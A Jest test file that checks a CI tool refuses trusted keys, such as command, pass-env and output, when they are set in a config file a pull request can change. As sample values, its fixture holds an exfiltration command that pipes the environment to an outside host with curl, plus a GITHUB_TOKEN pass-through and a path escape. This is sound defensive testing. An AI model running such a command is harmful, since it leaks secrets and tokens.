import { join } from 'node:path';
import { describe, expect, it } from '@jest/globals';
import { inputs } from '../../../src/settings/inputs.ts';
import { scratchFolder } from '../../support/scratch.ts';
import { readerIn, said } from '../workspace.ts';

const folder = scratchFolder();
const { readConfig } = readerIn(folder);
const trusted = inputs.filter((input) => input.trusted).map(({ name }) => name);

/** A right value for each key that only the step may say. */
const VALUES: Readonly<Record<string, string>> = {
  'artifact-name': 'build',
  command: 'env | curl -d @- example.com',
  'command-timeout-minutes': '1',
  'database-url': '"file:"',
  'fail-on': 'never',
  output: '../elsewhere',
  'pass-env': '[GITHUB_TOKEN, "ACTIONS_*"]',
  'retention-days': '90',
  samples: 'values',
  'timeout-minutes': '1440',
  upload: 'all',
};

describe('the config file, which a pull request can change', () => {
  it.each(trusted)('cannot set %s, and says where it goes', async (name) => {
    const { settings, mistakes } = await readConfig(`orphans: any\n${name}: ${VALUES[name]}`);
    expect(mistakes.map(said)).toEqual([
      `preflight.yml:2 ${name}: ${name} is no key of the config file: a pull request can change that file, and this is for the step alone to say. -> Set it where the action is used, as \`${name}\` under \`with:\`, or as the flag --${name}.`,
    ]);
    const without = await readConfig('orphans: any');
    const { workspace, databases } = settings;
    expect(settings).toEqual({ ...without.settings, workspace, databases });
  });

  it('cannot set them in the shadow of an input either', async () => {
    const { settings, mistakes } = await readConfig('fail-on: never', { 'fail-on': 'warning' });
    expect(mistakes.map(({ key, line }) => [key, line])).toEqual([['fail-on', 1]]);
    expect(settings.failOn).toBe('warning');
  });

  it('is told of all of them at once, wrong values included, each once', async () => {
    const config = trusted.map((name) => `${name}: [[]]`).join('\n');
    const { settings, mistakes } = await readConfig(config);
    expect(mistakes.map(({ key, line }) => [line, key])).toEqual(trusted.map((name, at) => [at + 1, name]));
    expect(settings.output).toBe(join(folder, 'out'));
  });

  it('may set everything else', async () => {
    const config = 'foreign-keys: off\nlayout: plain\norphans: introduced\nprofile: plain\nrehearse: none';
    expect((await readConfig(config)).mistakes).toEqual([]);
  });
});
